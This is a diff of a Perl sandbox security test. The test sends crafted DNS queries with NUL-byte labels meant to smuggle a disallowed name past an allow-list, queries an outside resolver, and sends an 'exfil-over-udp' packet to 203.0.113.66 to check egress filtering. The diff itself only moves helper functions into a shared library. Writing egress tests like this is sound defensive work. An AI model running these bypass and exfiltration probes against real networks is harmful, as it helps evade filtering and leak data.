@@ -1,37 +1,14 @@
 #!/usr/bin/perl
-# Runs INSIDE the sandbox as root (perl-base only: no modules beyond Socket/IO).
+# Runs INSIDE the sandbox as root (perl-base only: no modules beyond Socket/IO), after
+# tests/security/attack_lib.pl
+# (say_result, dns_query, tcp_exchange, $gw).
 # Each attack prints NAME=OUTCOME; tests/security/network.sh says what must hold.
 # The placeholder of the secret bound to secret.test is in $ENV{TOKEN}.
-use strict;
-use warnings;
-use IO::Socket::INET;
-use IO::Select;
-use Socket;
-
-$| = 1;
-my $gw = '192.168.127.1';
 my $token = $ENV{TOKEN} // '';
 
-sub say_result { my ($name, $value) = @_; $value =~ s/[\r\n]+/ /g; print "$name=$value\n"; }
-
 # ---- DNS: raw queries to the sandbox's resolver ---------------------------------------
-my $qid = 0x4000;
 # dns_raw(LABELS_ARRAYREF, QTYPE) -> "rcode=N answers=M" or "timeout"
-sub dns_raw {
-  my ($labels, $qtype) = @_;
-  $qtype //= 1;
-  my $q = pack('n n n n n n', ++$qid, 0x0100, 1, 0, 0, 0);
-  $q .= pack('C', length($_)) . $_ for @$labels;
-  $q .= "\0" . pack('n n', $qtype, 1);
-  my $s = IO::Socket::INET->new(Proto => 'udp', PeerAddr => $gw, PeerPort => 53) or return "socket-error";
-  $s->send($q);
-  my $sel = IO::Select->new($s);
-  return "timeout" unless $sel->can_read(5);
-  my $r;
-  $s->recv($r, 4096);
-  my ($id, $flags, $qd, $an) = unpack('n n n n', $r);
-  return sprintf("rcode=%d answers=%d", $flags & 0xf, $an);
-}
+sub dns_raw { return (dns_query(@_))[0]; }
 
 say_result('dns_nul_label', dns_raw(["evil", "test\0", "allowed", "test"]));
 say_result('dns_nul_ip_label', dns_raw(["203", "0", "113", "66\0", "allowed", "test"]));
@@ -58,29 +35,6 @@ say_result('dns_aaaa_allowed', dns_raw(["allowed", "test"], 28));
   say_result('dns_external_resolver', $r eq '' ? 'no-answer' : sprintf("rcode=%d", unpack('x3 C', $r) & 0xf));
   my $u = IO::Socket::INET->new(Proto => 'udp', PeerAddr => '203.0.113.66', PeerPort => 9999);
   $u->send("exfil-over-udp") for 1 .. 3;
-}
-
-# ---- raw TCP ---------------------------------------------------------------------------
-# tcp_exchange(HOST, PORT, BYTES) -> the first line of the answer, "closed" or "refused"
-sub tcp_exchange {
-  my ($host, $port, $bytes, $wait) = @_;
-  my $s = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Proto => 'tcp', Timeout => 10)
-    or return "refused";
-  print $s $bytes if defined $bytes;
-  my $sel = IO::Select->new($s);
-  my $buf = '';
-  my $deadline = time + ($wait // 10);
-  while (time < $deadline && $sel->can_read($deadline - time)) {
-    my $n = sysread($s, my $chunk, 65536);
-    last unless $n;
-    $buf .= $chunk;
-    last if $buf =~ /\r?\n\r?\n/ || length($buf) > 65536;
-  }
-  close $s;
-  return "closed" if $buf eq '';
-  my ($line) = split /\r?\n/, $buf;
-  $line =~ s/^HTTP\/1\.[01] (\d+).*/$1/;
-  return $line;
 }
 
 my $ka = "Host: allowed.test\r\n";
